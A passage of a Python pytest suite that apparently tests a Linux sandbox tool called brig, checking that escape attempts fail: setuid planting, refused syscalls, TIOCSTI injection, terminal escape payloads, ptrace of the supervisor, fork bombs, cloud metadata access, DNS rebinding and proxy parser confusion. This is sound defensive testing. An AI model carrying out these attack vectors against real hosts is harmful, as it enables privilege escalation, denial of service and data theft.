def test_hardlink_to_host_files(brig):
    secret = host_dir(brig, "hlsecret")
    shadow = secret / "shadow"
    shadow.write_text(marker("hl"))
    shadow.chmod(0o600)
    before = {p: os.stat(p).st_nlink for p in (shadow, "/etc/passwd")}
    for src in ("/etc/passwd", "/data/shadow", str(shadow)):
        r, out = run_probe(brig, "probe_attack", "link", src, brig.workspace,
                           brig_args=("--ro-bind", f"{secret}:/data"))
        for k in ("link", "linkat_empty_path", "linkat_procfd"):
            if k in out:
                refused(out, k)
    assert {p: os.stat(p).st_nlink for p in before} == before, "ATTACK WORKED: a host file gained a link"
    assert not list(brig.workspace.glob("link-*"))


@attack("setuid-bits", "plant a setuid/setgid file or file capabilities in the workspace for the host to run",
        "seccomp: S_ISUID/S_ISGID in chmod/open/mknod modes refused, openat2 ENOSYS; no CAP_SETFCAP")
def test_setuid_bits_and_file_caps(brig):
    r, out = run_probe(brig, "probe_attack", "setid", brig.workspace)
    for k in ("fchmod_setuid", "fchmod_setgid", "chmod_setuid", "fchmodat_setuid", "fchmodat2_setuid",
              "open_creat_setuid", "open_tmpfile_setuid", "mknod_reg_setuid", "setxattr_fcaps_v2",
              "setxattr_fcaps_v3_root0"):
        refused(out, k)
    # ... and no over-refusal: a mode the kernel ignores (no O_CREAT or O_TMPFILE) may hold junk
    assert out.get("open_dir_junk_mode") == "ok" and out.get("open_file_junk_mode") == "ok", out
    for p in brig.workspace.iterdir():
        st = p.lstat()
        assert not st.st_mode & (stat.S_ISUID | stat.S_ISGID), f"ATTACK WORKED: {p} has mode {oct(st.st_mode)}"
        if p.is_file():
            try:
                caps = os.getxattr(p, "security.capability", follow_symlinks=False)
            except OSError:
                caps = None
            assert caps is None, f"ATTACK WORKED: {p} carries file capabilities"


@attack("setuid-binary", "run a setuid-root binary (the host's, or one granted read-only) to become root",
        "nosuid on every mount; no_new_privs; no capabilities")
def test_setuid_binary_is_inert(brig):
    d = host_dir(brig, "suid")
    exe = d / "probe_proc"
    shutil.copy2(brig.program("probe_proc"), exe)
    os.chown(exe, 0, 0) if IS_ROOT else None
    exe.chmod(0o4755)
    r = brig.run("run", "--ro-bind", f"{d}:/suid", "--", "/suid/probe_proc", "exec", "/suid/probe_proc", "ids")
    out = kv(r.stdout)
    assert "euid" in out, r
    assert out["euid"] != "0" and out["suid"] != "0", f"ATTACK WORKED: {out}"
    if os.path.exists("/usr/bin/su"):
        r = brig.sh("su -c 'id -u' root </dev/null; id -u")
        assert r.stdout.split()[-1] != "0" and "\n0\n" not in "\n" + r.stdout, r


@attack("chattr-immutable", "make workspace files immutable or append-only, so the host owner cannot undo the damage",
        "no CAP_LINUX_IMMUTABLE (FS_IOC_SETFLAGS refused)")
def test_chattr_immutable(brig):
    f = brig.workspace / "victim"
    f.write_text("x")
    brig.chown(f)
    r, out = run_probe(brig, "probe_attack", "chattr", f)
    if out.get("getflags") != "ok":
        pytest.skip(f"CHATTR NOT TESTED: the workspace's filesystem has no inode flags ({out})")
    refused(out, "set_immutable", {"EPERM"})
    refused(out, "set_append_only", {"EPERM"})
    f.write_text("still writable")  # the host can still change and remove it
    f.unlink()


# ================================================== the kernel surface

@attack("refused-syscall-list", "every call the default profile refuses, each really made (mount, ptrace, kexec, swap, acct, clock, quota, fanotify, ...)",
        "seccomp: EPERM for the named calls, ENOSYS for calls it does not name")
def test_every_refused_syscall(brig):
    r, out = run_probe(brig, "probe_syscall", "denied")
    attempts = {k: v for k, v in out.items() if not k.startswith("allowed_")}
    assert len(attempts) >= 50, r
    for k, v in attempts.items():
        refused(out, k, {"ENOSYS"} if k.startswith("unlisted_") else {"EPERM"})
    # Controls: allowed calls with bad arguments reach the kernel.
    assert out["allowed_read_badfd"] == "EBADF" and out["allowed_stat_fault"] == "EFAULT", out


@attack("set-clock-hostname", "set the host's clock or hostname",
        "seccomp (EPERM); own UTS namespace; no CAP_SYS_TIME")
def test_set_clock_and_hostname(brig):
    host_name = socket.gethostname()
    r, out = run_probe(brig, "probe_proc", "sethostname")
    refused(out, "sethostname", {"EPERM"})
    refused(out, "setdomainname", {"EPERM"})
    r = brig.sh("date -s '2001-01-01 00:00:00' >/dev/null 2>&1; echo date_rc=$?")
    assert "date_rc=0" not in r.stdout, r
    assert socket.gethostname() == host_name and time.gmtime().tm_year > 2001


@attack("keyctl", "kernel keyrings: join/read the host's keyrings, add keys",
        "seccomp keyctl/add_key/request_key (EPERM)")
def test_keyctl(brig):
    r, out = run_probe(brig, "probe_attack", "keyctl")
    for k in ("join_session_keyring", "add_key_user", "get_user_keyring", "request_key"):
        refused(out, k, {"EPERM"})


@attack("bpf", "bpf(): maps and a socket filter program (verifier bugs, kernel memory)",
        "seccomp bpf (EPERM)")
def test_bpf(brig):
    r, out = run_probe(brig, "probe_attack", "bpf")
    refused(out, "bpf_map_create", {"EPERM"})
    refused(out, "bpf_prog_load", {"EPERM"})


@attack("userfaultfd", "userfaultfd: stall the kernel mid-copy (race-exploit primitive)",
        "seccomp userfaultfd (EPERM); no /dev/userfaultfd")
def test_userfaultfd(brig):
    r, out = run_probe(brig, "probe_attack", "userfaultfd")
    refused(out, "userfaultfd", {"EPERM"})
    refused(out, "userfaultfd_user_only", {"EPERM"})
    refused(out, "dev_userfaultfd", {"ENOENT", "EACCES"})


@attack("io_uring", "io_uring: a second syscall interface seccomp cannot see",
        "seccomp io_uring_setup/enter/register (EPERM)")
def test_io_uring(brig):
    r, out = run_probe(brig, "probe_attack", "io_uring")
    refused(out, "io_uring_setup", {"EPERM"})


@attack("perf_event_open", "perf_event_open: side channels and a long history of kernel bugs",
        "seccomp perf_event_open (EPERM)")
def test_perf_event_open(brig):
    r, out = run_probe(brig, "probe_attack", "perf")
    refused(out, "perf_sw_self", {"EPERM"})
    refused(out, "perf_hw_cpu0", {"EPERM"})


@attack("nested-userns", "a nested user namespace: a fresh full set of capabilities (unshare -r)",
        "seccomp unshare/clone CLONE_NEWUSER (EPERM), clone3 (ENOSYS); max_user_namespaces 0")
def test_nested_user_namespace(brig):
    r, out = run_probe(brig, "probe_attack", "userns")
    refused(out, "unshare_newuser", {"EPERM"})
    refused(out, "clone_newuser", {"EPERM"})
    refused(out, "clone3_newuser", {"ENOSYS", "EPERM"})
    assert out["max_user_namespaces"] == "0", out
    r = brig.sh("unshare -r id -u 2>&1; echo rc=$?")
    assert "rc=0" not in r.stdout, r


@attack("other-namespaces", "new mount/net/pid/ipc/uts/cgroup/time namespaces, setns",
        "seccomp namespace flags on unshare/clone/setns; clone3 ENOSYS")
def test_other_namespaces(brig):
    r, out = run_probe(brig, "probe_proc", "unshare")
    assert out, r
    for k, v in out.items():
        assert v != "ok", f"ATTACK WORKED: {k}"
    r, out = run_probe(brig, "probe_proc", "clone")
    assert out, r
    for k, v in out.items():
        assert v != "ok", f"ATTACK WORKED: {k}"


@attack("kmod-kexec-reboot", "load a kernel module, kexec a kernel, reboot",
        "seccomp (EPERM); no CAP_SYS_MODULE/CAP_SYS_BOOT")
def test_kmod_kexec_reboot(brig):
    r, out = run_probe(brig, "probe_attack", "kmod")
    for k in ("init_module", "finit_module", "delete_module", "kexec_file_load", "kexec_load", "reboot_cad_off"):
        refused(out, k, {"EPERM"})


@attack("socket-families", "raw packets, AF_ALG, vsock, netlink audit/uevent, TIPC (kernel attack surface)",
        "seccomp socket() family allowlist (EAFNOSUPPORT)")
def test_socket_families(brig):
    r, out = run_probe(brig, "probe_syscall", "sockets")
    for k in ("af_netlink_audit", "af_netlink_uevent", "af_alg", "af_packet", "af_vsock", "af_bluetooth",
              "af_tipc", "af_key", "af_packet_highbits", "af_netlink_route_highbits", "socketpair_tipc"):
        refused(out, k)
    assert out["af_unix"] == "ok", "control: AF_UNIX must work"


@attack("personality", "personality(READ_IMPLIES_EXEC / ADDR_NO_RANDOMIZE / MMAP_PAGE_ZERO)",
        "seccomp personality allowlist")
def test_personality(brig):
    r, out = run_probe(brig, "probe_syscall", "personality")
    for k in ("read_implies_exec", "mmap_page_zero", "addr_no_randomize"):
        refused(out, k, {"EPERM"})
    assert out["linux"] == "ok", "control: PER_LINUX must work"


@attack("abi-x32", "x32 system calls (bit 30): a second syscall table past the filter",
        "seccomp: non-native syscall numbers kill the process (SIGSYS)")
def test_x32_abi(brig):
    r, out = run_probe(brig, "probe_attack", "abi")
    for k in ("x32_getpid", "x32_unshare_newuser", "x32_keyctl"):
        killed_or_refused(out, k)


@attack("abi-i386", "int 0x80 from a 64-bit program: the i386 syscall table",
        "seccomp: the i386 architecture is killed (SIGSYS)")
def test_i386_abi(brig):
    r, out = run_probe(brig, "probe_attack", "abi")
    for k in ("i386_getpid", "i386_unshare_newuser", "i386_keyctl"):
        killed_or_refused(out, k)


# ================================================== the terminal

@attack("tiocsti", "TIOCSTI: push a command into the caller's shell (also with high bits set on cmd)",
        "own session (setsid) and pty; seccomp TIOCSTI compared on 32 bits")
def test_tiocsti_into_callers_shell(brig):
    from test_terminal import Session, _inject, legacy_tiocsti
    s = Session(brig)
    marks = host_dir(brig, "marks", 0o777)
    try:
        if not legacy_tiocsti():
            pytest.skip("TIOCSTI NOT TESTABLE: dev.tty.legacy_tiocsti=0, the kernel forbids TIOCSTI to everyone")
        ctl = marks / marker("control")
        s.run_line(f"{shell_quote(brig.program('probe_proc'))} tiocsti {shell_quote(f'touch {ctl}' + chr(92) + 'n')}")
        s.sync()
        assert ctl.exists(), "control: TIOCSTI on the host terminal did not inject; the test could not fail"
        for args in ((), ("--no-tty",), ("--no-tty", "--terminal-passthrough")):
            target = _inject(s, brig, marks, *args)
            assert not target.exists(), f"ATTACK WORKED: TIOCSTI ran a command in the caller's shell ({args})"
    finally:
        s.close()


@attack("tioclinux", "TIOCLINUX paste/set-selection (console keystroke injection), with high bits set on cmd",
        "seccomp TIOCLINUX compared on 32 bits (EPERM)")
def test_tioclinux(brig):
    r, out = run_probe(brig, "probe_attack", "tioclinux", input="")
    r2, out2 = run_probe(brig, "probe_attack", "tioclinux", brig_args=("--tty",))
    both = {**out, **{k + "_tty": v for k, v in out2.items()}}
    keys = [k for k in both if k.startswith("tioclinux_")]
    assert len(keys) >= 6, (r, r2)
    for k in keys:
        refused(both, k, {"EPERM"})


TERMINAL_CONTROLS = (b"\x1b", b"\x07", b"\x9b", b"\xc2\x9b")


@attack("terminal-escapes-via-brig", "names the sandbox chooses (files in brig diff and commit conflicts, hosts at the "
        "proxy) carrying escape sequences into the caller's terminal through brig's own output",
        "brig prints such names with control characters as \\xNN; the audit stream is JSON")
def test_escape_sequences_in_brigs_own_output(brig, netscript):
    from persist_helpers import Sandboxes
    boxes = Sandboxes(brig)
    evil = "\x1b]0;PWNED\x07\x1b[2J\u009b31mname"
    try:
        name, _ = boxes.create("--workspace-mode", "overlay")
        r = boxes.exec(name, "--", "python3", "-c", f"open({evil!r}, 'w').write('sandbox')")
        assert r.returncode == 0, r
        # The same name made on the host: brig commit reports a conflict naming it.
        (brig.workspace / evil).write_text("host")
        outputs = []
        for args in (("diff", name), ("commit", name)):
            cp = subprocess.run(brig.cmd(*args), cwd=brig.workspace, env=brig.env(boxes.env()),
                                capture_output=True, timeout=60)
            outputs.append((args[0], cp.stdout + cp.stderr))
        assert b"PWNED" in outputs[0][1] and b"PWNED" in outputs[1][1], outputs   # the names were printed
        for what, text in outputs:
            bad = [c for c in TERMINAL_CONTROLS if c in text]
            assert not bad, f"ATTACK WORKED: brig {what} wrote {bad} to the terminal: {text!r}"
    finally:
        (brig.workspace / evil).unlink(missing_ok=True)
        problems = boxes.cleanup()
    assert not problems, problems
    # The proxy: a refused SOCKS name full of escapes, in brig's stderr and the audit stream.
    audit = brig.base / "reports" / f"{uuid.uuid4().hex}.jsonl"
    audit.parent.mkdir(exist_ok=True)
    audit.parent.chmod(0o1777)
    cp = subprocess.run(brig.cmd("run", "--allow-host", "ok.invalid", "--audit", audit, "--ro-bind",
                                 f"{netscript}:/net.py", "--", "python3", "/net.py", "socks",
                                 "\x1b]0;PWNED\x07evil.invalid", "80"),
                        cwd=brig.workspace, env=brig.env(), capture_output=True, timeout=60)
    assert b"socks_reply=" in cp.stdout, cp
    for where, text in (("stderr", cp.stderr), ("audit", audit.read_bytes())):
        bad = [c for c in TERMINAL_CONTROLS if c in text]
        assert not bad, f"ATTACK WORKED: {where} carries {bad}: {text!r}"


# ================================================== other processes

@attack("ptrace-across", "ptrace / process_vm_readv the supervisor and a host process of the same user",
        "pid namespace (host pids do not exist inside); seccomp ptrace, process_vm_readv")
def test_ptrace_supervisor_and_host(brig, host_sleeper):
    pid, _ = host_sleeper
    cmd = host_pid_of_brig_script(
        brig, f"run --ro-bind {shell_quote(brig.program('probe_proc'))}:/probe -- /probe ptrace $$ {pid} 1")
    cp = subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd=brig.workspace, env=brig.env())
    out = kv(cp.stdout)
    keys = [k for k in out if k.startswith(("ptrace_", "process_vm"))]
    assert len(keys) == 9, cp
    for k in keys:
        refused(out, k)


@attack("signal-across", "signal the supervisor, a host process, everything (kill -1)",
        "pid namespace; Landlock signal scoping (ABI 6)")
def test_signals_across(brig, host_sleeper):
    pid, mark = host_sleeper
    cmd = host_pid_of_brig_script(
        brig, f"run --ro-bind {shell_quote(brig.program('probe_attack'))}:/probe -- "
              f"sh -c \"/probe signal $$ {pid}; /probe killall; echo after\"")
    cp = subprocess.run(cmd, capture_output=True, text=True, timeout=60, cwd=brig.workspace, env=brig.env())
    out = kv(cp.stdout)
    keys = [k for k in out if k.startswith(("kill0_", "killkill_", "pidfd_"))]
    assert len(keys) == 6, cp
    for k in keys:
        refused(out, k, {"ESRCH", "EPERM"})
    assert pid in pids_with(mark), "ATTACK WORKED: the host process died"
    assert cp.returncode in (0, 137), f"the supervisor did not report normally: {cp}"
    r = brig.sh("echo still-works")
    assert r.stdout.strip() == "still-works", r


@attack("outlive-sandbox", "leave a daemon behind: double fork, setsid, ignore SIGHUP/SIGTERM",
        "pid namespace: pid 1's exit kills every process of the sandbox")
def test_outlive_the_sandbox(brig):
    mark = marker("daemon")
    r = brig.sh(f"(trap '' HUP TERM INT; setsid sh -c 'trap \"\" HUP TERM; sleep 300; : {mark}' "
                "</dev/null >/dev/null 2>&1 &); sleep 0.2; echo left")
    assert r.returncode == 0 and "left" in r.stdout, r
    still = pids_with(mark)
    if still:
        assert wait_until(lambda: not pids_with(mark), 5), f"ATTACK WORKED: {pids_with(mark)} outlived brig"
        kill_own(pids_with(mark))


@attack("host-traces", "leave mounts, network namespaces or cgroups on the host after the run",
        "everything is made in the sandbox's own namespaces; the cgroup is removed by brig")
def test_no_traces_on_the_host(brig):
    def others(name):  # network namespaces other tests (maybe running in parallel) make
        return os.path.basename(name).startswith(("brig-t-", "brig-esc-"))

    def snapshot():
        with open("/proc/self/mountinfo") as f:
            mounts = {l.split()[4] for l in f if not others(l.split()[4])}
        netns = {n for n in os.listdir("/run/netns") if not others(n)} if os.path.isdir("/run/netns") else set()
        return mounts, netns

    before = snapshot()
    p = subprocess.Popen(brig.cmd("run", "--ro-bind", f"{brig.program('probe_fs')}:/probe", "--", "sh", "-c",
                                  "mkdir -p /tmp/m; /probe mount-tmpfs /tmp/m; /probe bind / /tmp/m; "
                                  "unshare -n true; ip link add x type dummy; echo done"),
                         cwd=brig.workspace, env=brig.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    out, err = p.communicate(timeout=60)
    assert "done" in out, (out, err)
    # os.walk, not glob: other tests' cgroups vanish mid-walk (glob raised FileNotFoundError for one)
    mine = lambda: cgroup_dirs_named(f"brig-{p.pid}-")
    assert wait_until(lambda: snapshot() == before and not mine(), 5), \
        f"ATTACK WORKED: traces left: {snapshot()[0] - before[0]} {snapshot()[1] - before[1]} {mine()}"


@attack("supervisor-secrets", "read the supervisor's environment or memory (/proc/1/environ, mem, process_vm_readv)",
        "clean environment; pid 1 not dumpable; seccomp process_vm_readv; pid namespace")
def test_supervisor_secrets(brig):
    secret = marker("SECRET")
    r, out = run_probe(brig, "probe_attack", "memscan", secret[::-1], env={"BRIG_TEST_SECRET": secret})
    assert r.returncode == 0, r
    assert out["secret_found"] == "0" and secret not in r.stdout, f"ATTACK WORKED: {r}"
    for k in ("open_init_environ", "open_init_mem", "open_init_maps", "process_vm_readv_init"):
        refused(out, k)


@attack("init-fds", "steal pid 1's descriptors (the sync socket to the supervisor, host fds)",
        "pid 1 not dumpable (/proc/1/fd EACCES); seccomp pidfd_getfd")
def test_init_descriptors(brig):
    r, out = run_probe(brig, "probe_attack", "pid1")
    assert out["init_fds_opened"] == "0", out
    assert out["pidfd_getfd_got"] == "0", out
    for k in ("init_fd_dir", "init_cwd", "init_root"):
        refused(out, k)


@attack("abstract-unix-socket", "connect to the host's abstract unix sockets (X11, dbus, containerd shims)",
        "network namespace (abstract names are per netns); Landlock scope (ABI 6)")
def test_abstract_socket_of_the_host(brig):
    name = marker("abs")
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind("\0" + name)
    srv.listen(8)
    srv.setblocking(False)
    try:
        r, out = run_probe(brig, "probe_syscall", "abstract", name)
        refused(out, "abstract_connect", {"ECONNREFUSED", "EPERM", "ENOENT"})
        with pytest.raises(BlockingIOError):
            srv.accept()
        # Control: from the host it connects.
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        c.connect("\0" + name)
        c.close()
    finally:
        srv.close()


@attack("sysv-ipc", "the host's System V shared memory, message queues, semaphores",
        "IPC namespace")
def test_sysv_ipc(brig):
    key = 0x62720000 | (os.getpid() & 0xffff)
    cp = subprocess.run([brig.program("probe_attack"), "ipc-make", hex(key)], capture_output=True, text=True)
    try:
        assert kv(cp.stdout).get("shmget") == "ok", f"control: could not create host IPC objects: {cp}"
        r, out = run_probe(brig, "probe_attack", "ipc", hex(key))
        for k in ("shmget", "msgget", "semget"):
            refused(out, k, {"ENOENT"})
    finally:
        subprocess.run([brig.program("probe_attack"), "ipc-rm", hex(key)])


# ================================================== resources

def _report(brig, *args, **kw):
    path = brig.base / "reports" / f"{uuid.uuid4().hex}.json"
    path.parent.mkdir(exist_ok=True)
    path.parent.chmod(0o1777)
    r = brig.run("run", "--json-report", str(path), *args, **kw)
    r.report = json.loads(path.read_text()) if path.exists() else None
    return r


@attack("fd-exhaustion", "open descriptors until the kernel refuses",
        "RLIMIT_NOFILE (4096)")
def test_fd_exhaustion(brig):
    r, out = run_probe(brig, "probe_attack", "fds-exhaust")
    assert out["stopped_by"] == "EMFILE", out
    assert int(out["opened"]) < int(out["nofile"]) <= 4096, out
    assert brig.sh("echo ok").stdout.strip() == "ok"


@attack("inode-exhaustion", "create empty files in /tmp until the kernel runs out of inodes (kernel memory)",
        "tmpfs nr_inodes bound with the size (1 inode per KiB)")
def test_inode_exhaustion(brig):
    r = brig.sh("stat -f -c '%c' /tmp; stat -f -c '%c' /dev/shm; stat -f -c '%c' $HOME")
    totals = [int(x) for x in r.stdout.split()]
    assert len(totals) == 3, r
    # Default /tmp is 512 MiB: an inode limit no bigger than one per KiB.
    assert totals[0] <= 512 * 1024 and totals[1] <= 64 * 1024 and totals[2] <= 256 * 1024, \
        f"ATTACK POSSIBLE: tmpfs inodes unbounded by the size: {totals}"
    r, out = run_probe(brig, "probe_attack", "inodes", "/tmp", 2 * 1024 * 1024, timeout=300)
    assert out["stopped_by"] == "ENOSPC", f"ATTACK WORKED: {out}"
    assert int(out["created"]) <= totals[0], out


@attack("pid-exhaustion", "fork bomb", "pids cgroup (1024), RLIMIT_NPROC where no cgroup")
def test_pid_exhaustion(brig):
    r, out = run_probe(brig, "probe_attack", "forkbomb", 20000, timeout=120)
    assert out.get("stopped_by") == "EAGAIN", f"ATTACK WORKED: {out} {r}"
    assert int(out["forked"]) <= 1024, out
    assert brig.sh("echo ok").stdout.strip() == "ok"


@attack("memory-exhaustion", "allocate and touch memory until the host swaps or OOMs",
        "memory cgroup (4 GiB default, no swap); rootless without a cgroup: RLIMIT_DATA per process, reported as degraded")
def test_memory_exhaustion(brig):
    r, out = run_probe(brig, "probe_attack", "memhog", 64 * 1024, brig_args=("--memory", "256M"), timeout=120)
    if out.get("stopped_by") is not None:
        assert out["stopped_by"] == "ENOMEM", f"ATTACK WORKED: {out}"
        assert int(out["allocated_mb"]) <= 256, out
    else:
        assert r.returncode == 137, f"neither refused nor OOM-killed: {r}"
    assert brig.sh("echo ok").stdout.strip() == "ok"


@attack("disk-exhaustion", "fill /tmp, $HOME and /dev/shm (memory-backed) without end",
        "tmpfs size limits (512M, 256M, 64M)")
def test_disk_exhaustion(brig):
    r = brig.sh("/probe fill /tmp/big 2000000000; /probe fill $HOME/big 2000000000; /probe fill /dev/shm/big 2000000000",
                "--ro-bind", f"{brig.program('probe_fs')}:/probe", timeout=120)
    lines = [l for l in r.stdout.splitlines() if l.startswith("fill ")]
    assert len(lines) == 3, r
    for l in lines:
        assert "fail ENOSPC" in l, f"ATTACK WORKED: {l}"
        written = int(l.split("written=")[1])
        assert written <= 512 * 1024 * 1024, l


@attack("audit-flood", "flood the host's disk through brig's audit stream (refused calls over thousands of numbers)",
        "audit rate limit: 10 events/s per syscall and 100 syscall lines/s in all; the rest counted")
def test_audit_stream_flood(brig):
    audit = brig.base / "reports" / f"{uuid.uuid4().hex}.jsonl"
    audit.parent.mkdir(exist_ok=True)
    audit.parent.chmod(0o1777)
    # 30000 refused calls: each is a round trip to the supervisor (~0.5 ms
    # on a 2-core VM), so the flood lasts seconds — several of the rate
    # limit's 1 s windows, the most lines it may let through each. 300000
    # (100000 rounds) took 150 s a run and showed nothing more.
    r, out = run_probe(brig, "probe_attack", "syscall-flood", 10000, brig_args=("--audit", audit), timeout=300)
    assert r.returncode == 0 and out["refused"] == out["calls"], r
    events = [json.loads(line) for line in audit.read_text().splitlines()]
    end = events[-1]
    assert end["event"] == "end", events[-3:]
    recorded = sum(1 for e in events if e["event"] == "syscall")
    suppressed = sum(e["count"] for e in events if e["event"] == "suppressed")
    assert recorded + suppressed == int(out["calls"]), "calls went uncounted"
    # At most 100 syscall/suppressed lines per started second, the last
    # per-syscall counts, and start/end.
    seconds = end["duration_ms"] // 1000 + 1
    assert len(events) <= 101 * seconds + 64 + 2, \
        f"ATTACK WORKED: {len(events)} audit lines in {end['duration_ms']} ms ({audit.stat().st_size} bytes)"
    # The notification path refuses like the plain filter does.
    for cmd, keys in (("keyctl", ["join_session_keyring", "add_key_user"]), ("userns", ["unshare_newuser"]),
                      ("io_uring", ["io_uring_setup"]), ("cgroup", ["mount_cgroup_rdma", "unshare_mount"])):
        r, out = run_probe(brig, "probe_attack", cmd, brig_args=("--audit", audit))
        for k in keys:
            refused(out, k, {"EPERM"})
    r, out = run_probe(brig, "probe_attack", "abi", brig_args=("--audit", audit))
    killed_or_refused(out, "x32_unshare_newuser")
    killed_or_refused(out, "i386_unshare_newuser")


# ================================================== network

NET_MODES = ["none", "proxy", "filtered"]


def net_args(mode, *allow):
    if mode == "none":
        return ["--net", "none"]
    # explicit: with allow rules and no --net, brig picks filtered
    return ["--net", mode] + list(allow or ["--allow-host", "allowed.invalid"])


@pytest.fixture
def netscript(brig):
    d = host_dir(brig, "net")
    dst = d / "net_attack.py"
    shutil.copy2(NET_ATTACK, dst)
    dst.chmod(0o644)
    return dst


@pytest.fixture(scope="module")
def upstream():
    from test_egress import Upstream
    u = Upstream()
    yield u
    u.close()


def refused_codes(net, codes, n):
    """Exactly n proxy answers, each meaning "refused" (none at all proves
    nothing: the probe did not run). The explicit proxy answers 403 and
    SOCKS reply 2; with `filtered` the explicit listeners may be absent, so
    any answer but success counts there."""
    if len(codes) != n:
        return False
    if net == "proxy":
        return all(c == "403" for c in codes)
    return all(c not in ("200", "0") for c in codes)


def net_run(brig, script, mode_args, lines, **kw):
    body = "; ".join(f"python3 /net.py {l}" for l in lines)
    return brig.sh(body, "--ro-bind", f"{script}:/net.py", *mode_args, **kw)


def answers(r, key):
    return [l.split("=", 1)[1] for l in r.stdout.splitlines() if l.startswith(key + "=")]


@pytest.mark.parametrize("net", NET_MODES)
@attack("metadata", "cloud metadata: 169.254.169.254, fd00:ec2::254, metadata.google.internal",
        "netns with only lo (none); the proxy's address classifier (link-local, metadata names)")
def test_metadata_every_mode(brig, netscript, net):
    args = net_args(net)
    lines = ["direct 169.254.169.254 80", "direct fd00:ec2::254 80", "direct metadata.google.internal 80",
             "resolve metadata.google.internal"]
    if net != "none":
        lines += ["proxy-connect 169.254.169.254 80", "proxy-connect fd00:ec2::254 80",
                  "proxy-connect metadata.google.internal 80", "proxy-get http://169.254.169.254/latest/meta-data/",
                  "proxy-get http://metadata.google.internal/computeMetadata/v1/",
                  "socks 169.254.169.254 80", "socks metadata.google.internal 80"]
    r = net_run(brig, netscript, args, lines)
    assert len(answers(r, "direct")) == 3, r
    for v in answers(r, "direct_status"):
        assert v != "200", f"ATTACK WORKED: a metadata service answered: {r}"
    if net == "none":
        assert all(v != "ok" for v in answers(r, "direct")), r
        assert answers(r, "resolve")[0].startswith("EAI"), r
    else:
        codes = answers(r, "connect_status") + answers(r, "get_status")
        assert refused_codes(net, codes, 5), f"ATTACK WORKED: {r}"
        socks = answers(r, "socks_reply")
        assert len(socks) == 2 and (socks == ["2", "2"] or net != "proxy" and "0" not in socks), r


@pytest.mark.parametrize("net", ["proxy", "filtered"])
@attack("dns-rebinding", "an allowed name that resolves to loopback, link-local/metadata or a private address",
        "the proxy judges the resolved address, not the name (no allow without --allow-cidr)")
def test_dns_rebinding(brig, netscript, upstream, net):
    names = {"rebind-lo.test": "127.0.0.1", "rebind-md.test": "169.254.169.254", "rebind-priv.test": "10.0.0.1",
             "rebind-v6.test": "::1", "rebind-mapped.test": "::ffff:127.0.0.1"}
    allow = []
    for n, a in names.items():
        allow += ["--allow-host", n, "--resolve", f"{n}:{a}"]
    args = net_args(net, *allow)
    before = upstream.connections
    lines = []
    for n in names:
        lines += [f"proxy-connect {n} {upstream.http_port}", f"proxy-get http://{n}:{upstream.http_port}/",
                  f"socks {n} {upstream.http_port}"]
    r = net_run(brig, netscript, args, lines)
    codes = answers(r, "connect_status") + answers(r, "get_status")
    assert refused_codes(net, codes, 2 * len(names)), f"ATTACK WORKED: {r}"
    socks = answers(r, "socks_reply")
    assert len(socks) == len(names) and all(v == "2" if net == "proxy" else v != "0" for v in socks), r
    assert upstream.connections == before, "ATTACK WORKED: the host's loopback server was reached"


class CountingServer:
    """Answers every connection on ADDR:PORT with a tiny HTTP response and
    counts them."""

    def __init__(self, addr, port):
        self.hits = 0
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((addr, port))
        self.sock.listen(64)
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            try:
                c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhello")
            finally:
                c.close()

    def close(self):
        self.sock.shutdown(socket.SHUT_RDWR)  # wakes the accept
        self.sock.close()
        self.thread.join(5)


@attack("proxy-parser-confusion", "make the proxy judge an allowed name but connect elsewhere (userinfo, fragments, "
        "case, brackets, NULs, port overflow, header injection, pipelining)",
        "one parse of the target, judged and connected as parsed; each request on a connection judged again")
def test_proxy_parser_confusion(brig, netscript, upstream):
    port = upstream.http_port
    evil = CountingServer("127.0.0.2", port)      # evil.test; good.test is the upstream on 127.0.0.1
    try:
        r = brig.run("run", "--resolve", "good.test:127.0.0.1", "--resolve", "evil.test:127.0.0.2",
                     "--allow-host", f"good.test:{port}", "--allow-cidr", "127.0.0.0/8",
                     "--ro-bind", f"{netscript}:/net.py", "--", "python3", "/net.py", "confuse", port, timeout=120)
        out = kv(r.stdout)
        assert len(out) == 16 + 11 + 1 + 5, r
        assert evil.hits == 0, f"ATTACK WORKED: {evil.hits} connections reached evil.test: {out}"
        # Controls: the allowed name works, and the counting server counts.
        assert out["socks_4"] == "0", out
        # The first (allowed) answered; the second refused, or dropped when
        # the upstream closed the connection — never answered.
        assert out["pipelined"] in ("200", "200+403"), out
        for k, v in out.items():
            if k not in ("socks_4", "pipelined"):
                assert not v.startswith("200"), f"ATTACK WORKED: {k}={v}"
        socket.create_connection(("127.0.0.2", port), timeout=5).close()
        assert wait_until(lambda: evil.hits == 1, 5), "control: the counting server did not count"
    finally:
        evil.close()


@pytest.mark.parametrize("net", NET_MODES)
@attack("host-loopback", "the host's loopback services (127.0.0.1, ::1, localhost) from inside",
        "network namespace: the sandbox's lo is its own; the proxy refuses loopback")
def test_host_loopback(brig, netscript, upstream, net):
    args = net_args(net)
    before = upstream.connections
    p = upstream.http_port
    lines = [f"direct 127.0.0.1 {p}", f"direct ::1 {p}", f"direct localhost {p}"]
    if net != "none":
        lines += [f"proxy-connect 127.0.0.1 {p}", f"proxy-connect localhost {p}", f"proxy-get http://127.0.0.1:{p}/"]
    r = net_run(brig, netscript, args, lines)
    assert len(answers(r, "direct")) == 3, r
    assert upstream.connections == before, f"ATTACK WORKED: the host's loopback server was reached: {r}"
    if net != "none":
        assert refused_codes(net, answers(r, "connect_status") + answers(r, "get_status"), 3), r


@attack("audit-net-flood", "flood the host's disk through the audit stream's network events (refused CONNECTs in a loop)",
        "100 network lines/s in the audit stream, the rest counted; the report's egress counts stay exact")
def test_audit_stream_net_flood(brig, netscript):
    audit = brig.base / "reports" / f"{uuid.uuid4().hex}.jsonl"
    audit.parent.mkdir(exist_ok=True)
    audit.parent.chmod(0o1777)
    report = audit.with_suffix(".json")
    r = brig.run("run", "--audit", audit, "--json-report", report, "--allow-host", "allowed.invalid",
